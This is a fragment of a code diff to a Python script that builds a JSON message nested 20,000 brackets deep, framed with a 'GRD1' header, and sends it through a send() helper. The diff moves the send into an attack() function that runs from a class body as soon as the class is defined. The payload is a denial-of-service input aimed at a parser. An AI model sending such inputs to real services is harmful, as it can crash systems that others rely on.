@@ -29,7 +29,14 @@ def send(data):
 
 
 deep = b'{"id": 1, "data": {"document": ' + b"[" * 20000 + b"]" * 20000 + b"}}"
-send(b"GRD1" + struct.pack("<I", len(deep)) + deep + struct.pack("<Q", 0))
+
+
+def attack():
+    send(b"GRD1" + struct.pack("<I", len(deep)) + deep + struct.pack("<Q", 0))
+
+
+class Attack:
+    attack()
 
 
 def compare(epochs, seed, train, test):
